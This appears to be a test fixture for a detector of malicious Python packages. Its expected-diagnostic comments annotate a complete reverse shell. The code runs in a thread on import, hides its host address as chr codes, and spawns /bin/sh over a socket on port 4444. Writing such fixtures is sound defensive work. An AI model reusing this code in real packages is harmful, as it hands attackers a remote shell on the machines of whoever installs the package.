# A reverse shell started in a thread when the package is imported.
import os
import pty
import socket
import threading

_H = "".join(chr(c) for c in [50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 55])  # want "string of 11 characters spelled as chr"


def _shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((_H, 4444))  # want "socket.connect reaches the network at import time"
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")  # want "reverse shell" "pty.spawn runs sh at import time"


threading.Thread(target=_shell, daemon=True).start()
